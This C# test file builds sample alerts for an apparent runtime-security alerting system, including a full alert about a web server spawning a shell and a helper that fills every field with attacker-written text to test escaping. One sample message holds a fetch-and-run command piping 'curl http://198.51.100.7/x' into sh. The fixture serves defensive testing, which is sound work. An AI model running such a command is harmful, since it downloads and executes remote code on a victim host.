using System.Text;
using Eyrie.Contracts;

namespace Eyrie.Sinks.Tests;

/// <summary>Alerts for tests.</summary>
internal static class An
{
    public static Alert Alert(
        string id = "a1", Severity severity = Severity.Warning, string rule = "Shell in a web server", string incident = "", string document = "{}") => new()
        {
            Id = id,
            Document = Encoding.UTF8.GetBytes(document),
            Severity = severity,
            Rule = rule,
            Incident = incident,
        };

    public static Alert Activity(string id, string document = "{}") =>
        new() { Id = id, Kind = "event", Document = Encoding.UTF8.GetBytes(document) };

    /// <summary>An alert with everything that sinks show.</summary>
    public static Alert FullAlert() => new()
    {
        Id = "0123456789abcdef0123456789abcdef",
        Document = "{}"u8.ToArray(),
        Time = EventTime.From(1_760_000_000, 123_456_789),
        Sensor = "falco",
        Severity = Severity.Critical,
        RiskScore = 83,
        Rule = "Run shell in web server",
        Message = "A web server ran a shell: sh -c \"curl http://198.51.100.7/x | sh\"",
        Tactics = ["Execution"],
        Techniques = ["T1059", "T1059.004"],
        Tags = ["web", "mitre_execution"],
        Node = "worker-1",
        Cluster = "prod",
        Namespace = "shop",
        Pod = "web-7d9c-x2x4z",
        Workload = "Deployment/web",
        Container = "nginx",
        ContainerId = "3ad7b26ded6d",
        Image = "nginx:1.27",
        User = "www-data",
        Pid = 4722,
        Executable = "/usr/bin/curl",
        CommandLine = "curl -s http://198.51.100.7/x",
        Tree = "containerd-shim(1201) > nginx(3312) > sh(4711) > curl(4722)",
        Incident = "inc-42",
        IncidentSequence = 3,
        CorrelationMethod = "pid",
        CorrelationConfidence = "high",
        Blocked = false,
    };

    /// <summary>What the Ingestor says of a sensor.</summary>
    public static Alert SensorLost() => new()
    {
        Id = "fedcba9876543210fedcba9876543210",
        Document = "{}"u8.ToArray(),
        Time = EventTime.From(1_760_000_000, 123_456_789),
        Sensor = "eyrie",
        Observer = "tetragon",
        Severity = Severity.Error,
        Rule = "Sensor lost",
        Message = "tetragon is lost, what happens is not seen until it is read again: nothing listens at unix:///var/run/tetragon/tetragon.sock",
        Node = "worker-1",
        Cluster = "prod",
        Incident = "inc-43",
        IncidentSequence = 1,
        CorrelationMethod = "none",
    };

    /// <summary>An alert in which every text was written by an attacker.</summary>
    public static Alert HostileAlert(string text) => FullAlert() with
    {
        Rule = text,
        Message = text,
        Tactics = [text],
        Techniques = [text],
        Tags = [text],
        Node = text,
        Cluster = text,
        Namespace = text,
        Pod = text,
        Workload = text,
        Container = text,
        ContainerId = text,
        Image = text,
        User = text,
        Executable = text,
        CommandLine = text,
        Tree = text,
        Incident = text,
        CorrelationMethod = text,
        CorrelationConfidence = text,
    };
}
